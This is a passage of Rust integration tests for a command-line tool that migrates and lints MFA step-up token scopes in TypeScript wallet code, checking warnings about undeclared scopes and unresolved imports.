  const onReveal = async () => {
    await promptMfaAuth({ createMfaToken: true });
    wallet.revealSeedPhrase();
  };
  return <button onClick={onReveal}>Reveal</button>;
}
"#;
    let rules = "[[sensitive_calls]]\nname = \"revealSeedPhrase\"\ntoken_scope = \"Walletseed\"\n";
    let declarations = "export declare enum TokenScope {\n    Walletexport = \"wallet:export\",\n    Walletsign = \"wallet:sign\"\n}\n";
    let dir = repo(&[("src/a.tsx", source), ("team.toml", rules)]);
    // Unknown declarations: the value is trusted.
    let out = stepup()
        .args(["migrate", "--rules", "team.toml", "src"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("TokenScope.Walletseed"));
    write(
        dir.path(),
        "node_modules/@dynamic-labs/sdk-api-core/package.json",
        b"{ \"version\": \"0.0.1\" }",
    );
    write(
        dir.path(),
        "node_modules/@dynamic-labs/sdk-api-core/src/models/TokenScope.d.ts",
        declarations.as_bytes(),
    );
    let out = stepup()
        .args(["migrate", "--rules", "team.toml", "src"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        stderr.contains(
            "the guarded call `revealSeedPhrase` maps to TokenScope.Walletseed, which the installed @dynamic-labs/sdk-api-core does not declare"
        ),
        "{stderr}"
    );
}

#[test]
fn a_legacy_name_from_a_module_that_does_not_resolve_is_reported_with_the_reason() {
    let dir = repo(&[(
        "src/a.tsx",
        "import { useMfa } from '@acme/auth';\n\nexport function A({ code }: { code: string }) {\n  const { authenticateDevice } = useMfa();\n  return <button onClick={() => authenticateDevice({ code, createMfaToken: { singleUse: true } })} />;\n}\n",
    )]);
    let out = stepup()
        .args(["check", "--max-warnings", "0", "src"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("src/a.tsx:1:1  warning  unresolved-import  `useMfa` is imported from '@acme/auth', which stepup cannot resolve ("),
        "{stdout}"
    );
}
